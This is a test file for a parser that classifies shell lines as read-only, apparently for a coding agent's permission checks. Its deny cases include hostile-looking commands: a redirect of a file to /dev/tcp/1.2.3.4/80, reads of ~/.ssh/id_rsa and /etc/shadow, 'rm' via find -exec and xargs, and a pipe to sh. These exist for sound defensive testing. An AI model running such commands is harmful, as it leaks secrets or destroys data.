import { beforeAll, describe, expect, it } from 'vitest'
import { loadShellGrammar } from './grammar'
import { readOnlyLine } from './read-only'

beforeAll(() => loadShellGrammar())

/**
 * Issue 28: read-only commands run without asking, judged by the parser. A line is read-only only when every command
 * in it is a known reader with only reading flags, nothing is written, and every word is known before it runs.
 */
const READERS = [
  'ls', 'ls -la', 'ls -la src', 'cat README.md', 'cat a b', 'head -n 20 a.txt', 'tail -5 a.txt', 'wc -l a.txt',
  'which node', 'file a.png', 'stat a.txt', 'du -sh src', 'df -h', 'tree src',
  'tree -L 2', 'sort a.txt', 'sort -u a.txt', 'uniq a.txt', 'cut -d, -f1 a.csv', 'diff a.txt b.txt', 'nl a.txt',
  'grep -n foo a.txt', 'grep -rn "TODO" src', 'grep -e foo -e bar a.txt', 'rg foo', 'rg -n "x y" src', 'rg --files',
  'find . -name "*.ts"', 'find src -type f -newer a.txt', 'basename a/b.ts', 'dirname a/b.ts', 'realpath a', 'md5sum a',
  'sha256sum a b', 'tr a-z A-Z < a.txt', 'cat < a.txt',
  'hostname && ls', 'git status', 'git status --short', 'git diff', 'git diff --stat HEAD~1', 'git diff --cached', 'git log --oneline -5',
  'git log -p -- src/a.ts', 'git show HEAD', 'git show HEAD:src/a.ts', 'git branch', 'git branch -a', 'git branch -vv',
  'git branch --show-current', 'git branch --list "feat/*"', 'git rev-parse HEAD', 'git rev-parse --show-toplevel',
  'git ls-files', 'git blame src/a.ts', 'git tag', 'git tag -l "v*"', 'git remote -v', 'git stash list', 'git --no-pager log',
  'git describe --tags', 'git grep foo', 'git merge-base HEAD main', 'git shortlog -sn', 'git reflog',
  'sed -n 1,20p a.txt', "sed -n '5p' a.txt",
]
/** Combinations: each reader in a pipeline, a list, a subshell, with stderr quieted. */
const COMBINED = [
  'ls -la && git status', 'git status --short | head -5', 'cat a.txt | grep x | wc -l', 'ls; pwd', 'ls || echo none',
  '(ls src; cat a.txt)', '{ ls; pwd; }', 'git log --oneline -1 2>/dev/null', 'ls 2>&1', 'ls > /dev/null', 'ls &> /dev/null',
  'grep -r "rm -f" . | head -1', 'ls; echo "a;rm -f x"', "wc -l a && echo 'a && rm -f x'", 'git status && echo --- && date', 'rg foo | sort | uniq -c', 'cat a.txt # a comment',
  '! grep -q x a.txt', 'grep x <<< "text"', 'ls \\\n  -la',
]

const NOT_READ_ONLY: [string, string][] = [
  // writes
  ['echo hi > out.txt', 'redirect'], ['ls >> log.txt', 'redirect'], ['cat a | tee b', 'tee'], ['sort -o out a.txt', 'sort -o'],
  ['sort --output=out a.txt', 'sort --output'], ['uniq a.txt out.txt', 'uniq output file'], ['tree -o out.txt', 'tree -o'],
  ['sed -i s/a/b/ a.txt', 'sed -i'], ["sed 's/a/b/w out' a.txt", 'sed w'], ["sed 'e rm x' a.txt", 'sed e'], ['sed s/a/b/ a.txt', 'sed script'],
  ['touch a', 'touch'], ['mkdir d', 'mkdir'], ['cp a b', 'cp'], ['mv a b', 'mv'], ['rm a', 'rm'], ['ln -s /etc e', 'ln'],
  ['git diff --output=x.patch', 'git diff --output'], ['git log --output=x', 'git log --output'], ['git branch new', 'git branch create'],
  ['git branch -D main', 'git branch -D'], ['git branch -m a b', 'git branch -m'], ['git tag v1', 'git tag create'], ['git tag -d v1', 'git tag -d'],
  ['git stash', 'git stash'], ['git stash drop', 'git stash drop'], ['git remote add o url', 'git remote add'], ['git checkout .', 'git checkout'],
  ['git commit -m x', 'git commit'], ['git reset --hard', 'git reset'], ['git clean -fd', 'git clean'], ['git reflog expire --all', 'git reflog expire'], ['git reflog show --output=x', 'git reflog --output'],
  ['git stash list --output=x', 'git stash list --output'], ['git log --out=x', 'an abbreviated --output'],
  ['file -C -m magic', 'file -C'], ['find . -delete', 'find -delete'], ['find . -fprint out', 'find -fprint'], ['date -s 2020-01-01', 'date -s'],
  ['hostname evil', 'hostname set'], ['hostname -Fname', 'hostname from a file'], ['tree -R -H x', 'tree -R writes'],
  // runs code
  ['find . -exec rm {} \\;', 'find -exec'], ['find . -execdir ls \\;', 'find -execdir'], ['find . -ok rm {} \\;', 'find -ok'],
  ['ls | xargs rm', 'xargs'], ['ls | xargs cat', 'xargs cat'], ['sh -c ls', 'sh -c'], ['bash -c "git status"', 'bash -c'], ['eval ls', 'eval'],
  ['npx prettier --check .', 'npx'], ["awk '{print}' a.txt", 'awk'], ["awk 'BEGIN{system(\"rm x\")}'", 'awk system'], ['python -c 1', 'python'],
  ['node -e 1', 'node'], ['git -c core.pager=rm log', 'git -c'], ['git -c color.ui=always status', 'git -c safe key'], ['git -C .. status', 'git -C'],
  ['git --git-dir=/tmp/x status', 'git --git-dir'], ['git st', 'git alias'], ['git diff --ext-diff', 'git diff --ext-diff'],
  ['git diff --no-index /etc/shadow a', 'git diff --no-index'], ['git grep -O foo', 'git grep pager'], ['git grep --open-files-in-pager=vi x', 'git grep pager'],
  ['rg --pre ./evil foo', 'rg --pre'], ['rg -z foo', 'rg -z'], ['sort --compress-program=./x a', 'sort compress program'], ['less a.txt', 'less'],
  ['man ls', 'man'], ['env', 'env'], ['printenv', 'printenv'], ['env ls', 'env wrapper'], ['sudo ls', 'sudo'], ['timeout 5 ls', 'timeout'],
  ['nice ls', 'nice'], ['command ls', 'command'], ['exec ls', 'exec'], ['time ls', 'time'], ['watch ls', 'watch'], ['./ls', 'a workspace program'],
  ['bin/cat a', 'a path as the command'], ['/bin/cat a', 'an absolute command path'], ['source x.sh', 'source'], ['. x.sh', 'dot'],
  ['ls() { rm x; }; ls', 'function'], ['alias ls=rm', 'alias'], ['jq . a.json', 'jq'], ['xxd a', 'xxd'], ['make -n', 'make'],
  // environment, dynamic words, unknown constructs
  ['PAGER=rm git log', 'assignment prefix'], ['LC_ALL=C ls', 'assignment prefix'], ['PATH=. ; ls', 'assignment'], ['x=1', 'assignment'],
  ['cat $HOME/.ssh/id_rsa', 'variable'], ['cat "$F"', 'variable'], ['cat $(echo a)', 'substitution'], ['echo `ls`', 'backticks'],
  ['cat ~/.ssh/id_rsa', 'tilde'], ['echo ~', 'tilde'], ['cat <(ls)', 'process substitution'], ['ls &', 'background'], ['ls & pwd', 'background'],
  ['for f in a b; do cat $f; done', 'loop'], ['if true; then ls; fi', 'if'], ['case a in a) ls;; esac', 'case'], ['[[ -f a ]]', 'test'],
  ['cat <<EOF\nx\nEOF', 'heredoc'], ['ls | sh', 'pipe to shell'], ['ls |& sh', 'pipe to shell'], ['cat a > /dev/tcp/1.2.3.4/80', 'redirect'],
  ['ls 3>out', 'redirect fd'], ['cat *.env', 'glob read'], ['cat src/*', 'glob read'], ['grep -R foo .', 'grep follows links'],
  ['rg -L foo', 'rg follows links'], ['rg --hidden KEY', 'rg hidden'], ['rg -uu KEY', 'rg unrestricted'], ['rg --no-ignore KEY', 'rg no-ignore'],
  ['find -L . -name x', 'find follows links'],
  // reads nothing: asks as before
  ['echo hello', 'echo alone'], ["printf '%s\\n' x", 'printf alone'], ['true', 'true'], ['pwd', 'pwd'], ['date', 'date'], ['whoami', 'whoami'],
  ['echo a && echo b', 'echo twice'], ['uname -a; hostname', 'facts only'], ['ls (', 'syntax error'], ['echo "unterminated', 'syntax error'], ['', 'empty'], ['# only a comment', 'no command'],
]

describe('read-only lines (parser-judged)', () => {
  it.each([...READERS, ...COMBINED])('%j is read-only', (line) => {
    const v = readOnlyLine(line)
    expect(v, JSON.stringify(v)).toMatchObject({ readOnly: true })
  })

  it.each(NOT_READ_ONLY)('%j is not read-only (%s)', (line) => {
    expect(readOnlyLine(line).readOnly).toBe(false)
  })

  it('a line that is not read-only says why, in plain words', () => {
    expect(readOnlyLine('echo hi > out.txt')).toEqual({ readOnly: false, why: 'it writes to out.txt' })
    expect(readOnlyLine('ls | xargs rm')).toEqual({ readOnly: false, why: 'xargs is not a read-only command' })
    expect(readOnlyLine('git branch -D main')).toEqual({ readOnly: false, why: 'git branch -D can change things' })
  })

  it('lists the words that may name files it reads, so the caller judges them as reads of those paths', () => {
    expect(readOnlyLine('cat a.txt ../b.txt /etc/hosts')).toEqual({ readOnly: true, reads: ['a.txt', '../b.txt', '/etc/hosts'] })
    expect(readOnlyLine('grep -rn --exclude-dir=node_modules foo src')).toEqual({ readOnly: true, reads: ['node_modules', 'foo', 'src'] })
    expect(readOnlyLine('grep -f /etc/shadow a')).toMatchObject({ readOnly: true, reads: expect.arrayContaining(['/etc/shadow', 'a']) })
    expect(readOnlyLine('wc --files0-from=/etc/list')).toMatchObject({ reads: ['/etc/list'] })
    expect(readOnlyLine('cat < /etc/shadow')).toMatchObject({ reads: ['/etc/shadow'] })
    // Every operand counts, a search pattern too: judging `foo` as a path costs nothing, missing a file would.
    expect(readOnlyLine('rg foo')).toEqual({ readOnly: true, reads: ['foo'] })
    expect(readOnlyLine('ls')).toEqual({ readOnly: true, reads: [] })
    // echo and printf print their words; they read nothing.
    expect(readOnlyLine('ls && echo /etc/shadow')).toEqual({ readOnly: true, reads: [] })
    // A short flag with a path glued on is judged too.
    expect(readOnlyLine('grep -f/etc/shadow a')).toMatchObject({ readOnly: true, reads: expect.arrayContaining(['/etc/shadow']) })
  })
})
